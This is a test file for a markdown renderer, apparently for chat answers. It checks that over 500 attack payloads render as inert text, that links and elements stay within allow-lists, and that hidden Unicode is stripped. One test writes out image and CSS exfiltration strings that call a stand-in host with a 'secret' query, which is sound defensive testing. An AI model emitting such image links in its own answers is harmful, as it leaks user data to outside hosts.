import { expect } from '@open-wc/testing';
import { payloads } from './attacks.fixture.ts';
import { outline, Page, readable } from './markdown.fixture.ts';

/** Every element that markdown may become, and every attribute on it. */
const elements =
  'div p h4 h5 h6 ul ol li span blockquote hr figure figcaption button pre code table thead tbody tr th td a em strong del';
const attributes = 'class part dir start tabindex type scope data-align href target rel';

/** Each place in an answer that a payload can stand in. */
const places: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `# ${payload}`,
  (payload) => `- ${payload}\n  1. ${payload}`,
  (payload) => `> ${payload}`,
  (payload) => `| a | b |\n|---|---|\n| ${payload} | ${payload}`,
  (payload) => `| ${payload} |\n|---|\n| a |`,
  (payload) => `**${payload}** *${payload}*`,
  (payload) => `[${payload}](https://ok.example)`,
  (payload) => `[text](${payload})`,
  (payload) => `![${payload}](${payload})`,
  (payload) => `<${payload}>`,
  (payload) => `\`\`\`${payload}\n${payload}\n\`\`\``,
  (payload) => `\`${payload}\``,
  (payload) => `- [x] ${payload}`,
];

const violations: string[] = [];

before(() => {
  const policy = document.createElement('meta');
  policy.httpEquiv = 'Content-Security-Policy';
  policy.content =
    "img-src 'none'; media-src 'none'; frame-src 'none'; object-src 'none'; style-src-attr 'none'; form-action 'none'; " +
    "font-src 'none'; require-trusted-types-for 'script'; trusted-types lit-html";
  document.head.append(policy);
  document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => violations.push(violatedDirective));
});

afterEach(() => document.body.replaceChildren());

/** What is wrong with what was drawn. */
function faults(page: Page): readonly string[] {
  const known = new Set(elements.split(' '));
  const harmless = new Set(attributes.split(' '));
  return page
    .all('*')
    .flatMap((element) => [
      ...(known.has(element.localName) ? [] : [`<${element.localName}>`]),
      ...[...element.attributes].filter(({ name }) => !harmless.has(name)).map(({ name }) => name),
      ...(element instanceof HTMLAnchorElement && element.href !== '' ? linkFaults(element) : []),
    ]);
}

function linkFaults({ protocol, rel, target, href, textContent, hostname }: HTMLAnchorElement): readonly string[] {
  if (!['https:', 'http:', 'mailto:'].includes(protocol)) return [href];
  if (rel !== 'noopener noreferrer nofollow ugc' || target !== '_blank') return [`${href} ${rel} ${target}`];
  return protocol === 'mailto:' || textContent.toLowerCase().includes(hostname)
    ? []
    : [`${href} hides behind ${textContent}`];
}

describe('markdown: attacks', () => {
  it('has 500 of them', () => expect(payloads.length).to.be.greaterThan(500));

  for (const [at, place] of places.entries()) {
    it(`draws every payload as text, in place ${at} (068, 069)`, () => {
      const requests = performance.getEntriesByType('resource').length;
      const found = payloads.flatMap((payload) => {
        const page = new Page();
        const text = place(payload);
        const wrong: string[] = [];
        for (let end = 1; end < text.length; end += 7) {
          page.draw(text.slice(0, end), true);
          wrong.push(...faults(page));
        }
        page.draw(text, false);
        wrong.push(...faults(page));
        page.host.remove();
        return wrong.map((fault) => `${payload}: ${fault}`);
      });
      expect(found).to.deep.equal([]);
      expect(violations).to.deep.equal([]);
      expect(
        performance
          .getEntriesByType('resource')
          .slice(requests)
          .map(({ name }) => name),
      ).to.deep.equal([]);
    });
  }

  it('asks nobody for an image, in whatever way it is written (068)', () => {
    const page = new Page();
    const leak = 'https://leak.test/p?d=secret';
    const text = [
      `![x](${leak})`,
      `![x][ref]\n\n[ref]: ${leak}`,
      `<img src="${leak}">`,
      `<div style="background:url(${leak})">`,
      `<link rel=preload as=image href="${leak}">`,
      `<style>@import "${leak}"</style>`,
      `[![x](${leak})](https://ok.example)`,
    ].join('\n\n');
    for (let end = 1; end <= text.length; end += 1) page.draw(text.slice(0, end), end < text.length);
    expect(faults(page)).to.deep.equal([]);
    expect(violations).to.deep.equal([]);
    expect(performance.getEntriesByType('resource').filter(({ name }) => name.includes('leak'))).to.deep.equal([]);
    expect(readable(page.find('.image'))).to.equal('x');
  });

  it('makes a link of http, https and mailto alone (069)', () => {
    for (const payload of payloads.filter((given) => /script|^data|^blob|^file|^about/i.test(given))) {
      const page = new Page();
      const text = `[go](${payload})`;
      for (let end = 1; end <= text.length; end += 1) {
        page.draw(text.slice(0, end), end < text.length);
        for (const link of page.all('a[href]'))
          expect(link.getAttribute('href'), payload).to.match(/^(?:https?|mailto):/);
      }
      expect(readable(page.markdown), payload).to.include('go');
    }
  });

  it('shows nothing in another order than it is read in, and hides nothing', () => {
    for (const char of [
      '\u202e',
      '\u2066',
      '\u200b',
      '\u2060',
      '\ufeff',
      '\u{e0041}',
      '\u{e0100}',
      '\u00ad',
      '\u0000',
      '\u0085',
    ]) {
      const number = (char.codePointAt(0) ?? 0).toString(16);
      const page = new Page();
      page.draw(`a${char}b &#x${number};c \`d${char}e\`\n\n\`\`\`\nf${char}g\n\`\`\``, false);
      expect(outline(page.markdown), number).to.not.include(char);
    }
  });

  it('is watched by a policy that does see a request', async () => {
    const seen = new Promise((resolve) =>
      document.addEventListener('securitypolicyviolation', resolve, { once: true }),
    );
    new Image().src = 'https://leak.test/p';
    expect(await seen).to.have.property('effectiveDirective', 'img-src');
  });
});
